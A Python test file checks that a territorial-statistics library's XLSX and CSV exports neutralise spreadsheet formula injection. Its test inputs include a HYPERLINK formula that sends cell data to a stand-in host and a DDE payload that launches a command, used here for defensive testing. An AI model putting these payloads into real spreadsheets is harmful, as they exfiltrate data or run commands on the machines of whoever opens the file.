"""No text cell of a territobs table becomes a spreadsheet formula (OWASP)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from territobs.atlas.tables import write_xlsx
from territobs.io.spreadsheet import FORMULA_TRIGGERS, neutralise, to_csv

openpyxl = pytest.importorskip("openpyxl")

NASTY = [
    '=HYPERLINK("https://evil.example/?"&B2, "Cliquez")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Saint-Denis",
]


def _result(names: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "zone": [f"z{i}" for i in range(len(names))],
            "zone_name": names,
            "indicator": "population",
            "label": "=Population",
            "kind": "count",
            "unit": "habitants",
            "value": [-1.0 * i for i in range(len(names))],
            "method": "exact",
            "estimated_share": 0.0,
            "secret": [i % 2 == 0 for i in range(len(names))],
            "secret_reason": [
                "-secret" if i % 2 == 0 else "" for i in range(len(names))
            ],
            "source": "@INSEE",
            "vintage": "2021",
        }
    )


def test_xlsx_has_no_formula_and_names_read_as_typed(tmp_path) -> None:
    path = write_xlsx(_result(NASTY), tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, cell.coordinate
    for name in NASTY:  # shown as typed, no visible quote (XML turns CR into LF)
        assert name.replace("\r", "\n") in texts
    values = [c.value for c in book["Valeurs"]["C"][1:]]
    assert values == [-1.0 * i for i in range(len(NASTY))]  # numbers stay numbers


def test_csv_cells_are_prefixed_with_a_quote() -> None:
    # (a bare CR inside a field is not quoted by pandas: not a CSV test case)
    names = [n for n in NASTY if "\r" not in n]
    text = to_csv(_result(names), index=False)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, name in zip(rows, names, strict=True):
        assert row["zone_name"] == (f"'{name}" if name[0] in "=+-@\t\r" else name)
        assert not row["zone_name"].startswith(FORMULA_TRIGGERS)
        assert float(row["value"]) <= 0  # negative numbers untouched
    assert rows[0]["label"] == "'=Population"


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=0, max_size=12))
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe.endswith(text) and len(safe) - len(text) in (0, 1)
